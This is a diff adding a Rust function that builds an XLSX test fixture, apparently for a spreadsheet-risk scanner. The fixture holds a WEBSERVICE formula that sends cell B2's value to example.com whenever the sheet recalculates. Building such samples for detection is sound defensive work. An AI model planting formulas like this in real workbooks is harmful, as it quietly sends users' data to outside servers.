@@ -306,6 +306,18 @@ pub fn dde_formula() -> Vec<u8> {
     wb.finish()
 }
 
+/// A formula that sends a cell's value to a web server whenever the sheet recalculates.
+pub fn webservice_formula() -> Vec<u8> {
+    let mut wb = Workbook::new(ct::XLSX_MAIN, "Web service formula");
+    let mut rows = sales_rows(&mut wb);
+    rows.push_str(&row(
+        5,
+        &[wb.text("A5", "Sync"), formula("B5", "_xlfn.WEBSERVICE(\"https://example.com/?\"&B2)", "0")],
+    ));
+    wb.add_worksheet("Sales", SHEET1, &rows, "");
+    wb.finish()
+}
+
 /// A formula reading another workbook (`[1]Sheet1!$A$1`) through an external link.
 pub fn external_workbook() -> Vec<u8> {
     let mut wb = Workbook::new(ct::XLSX_MAIN, "Linked workbook");
